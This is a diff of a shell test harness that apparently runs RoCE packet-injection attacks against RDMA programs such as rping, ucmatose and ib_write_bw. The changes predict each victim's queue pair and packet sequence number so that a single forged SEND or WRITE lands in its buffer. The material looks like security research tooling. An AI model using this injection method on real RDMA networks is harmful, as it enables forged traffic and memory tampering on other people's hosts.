@@ -67,19 +67,25 @@ cell_inject() {
 	# client posts no receives, so its idle direction takes no SEND).
 	if [ "$v" = send_bw ]; then VICTIM_SEND_BW_RATE=2000 note='(client at 2000 msg/s) '; export VICTIM_SEND_BW_RATE; fi
 	# rping: only the attack or the cell ends it (a server stopped by its
-	# timeout would end the client the way a broken one does).
-	[ "$v" = rping ] && VICTIM_SECONDS=40
-	victim_start "$v" || { matrix_result inject "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; return; }
-	# ucmatose lives about a second: its first request is as fresh as it gets.
+	# timeout would end the client the way a broken one does). ucmatose:
+	# still there when a slow start-up is over.
+	case "$v" in rping | ucmatose) VICTIM_SECONDS=40 ;; esac
+	[ "$v" = ucmatose ] && cell_cm_capture_start
+	victim_start "$v" || { matrix_result inject "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; cell_cm_stop; return; }
+	cell_cm_stop
 	# rping: the rounds below capture their own.
 	case "$v" in
-	naive | rdmasec | ucmatose | rping) victim_wire_bth ;;
+	naive | rdmasec | rping) victim_wire_bth ;;
+	# ucmatose's bulk stream outruns a sweep, and it stalls and resends
+	# unpredictably; its server's QP sits still at the PSN the rdma_cm REP
+	# told (its client sends nothing until it replies): one exact SEND.
+	ucmatose) cell_aim_at_server && cell_cm_psns && WIRE_QPN=$CM_REP_QPN WIRE_PSN=$((CM_REP_PSN - 1)) ;;
 	# ib_write_bw's client QP waits at the PSN the exchange told: one exact WRITE into its buffer.
 	write_bw) victim_exchange && [ -n "$EXCH_RKEY" ] && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
 	*) victim_wire_bth --now ;;
 	esac || { matrix_result inject "$v" error "" "no RoCE request seen on the wire"; victim_stop; return; }
 	case "$v" in
-	naive) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 ;;
+	naive | ucmatose) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 ;;
 	write_bw) sweep=$EXCH_PSN:1 data+=(--op write --rkey "$EXCH_RKEY" --va "$EXCH_VA") ;;
 	rdmasec) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 data=(--data-hex "$CELL_INJECT_FRAME") ;;
 	*) sweep=$(((WIRE_PSN + 1) & 0xffffff)):200000 ;;
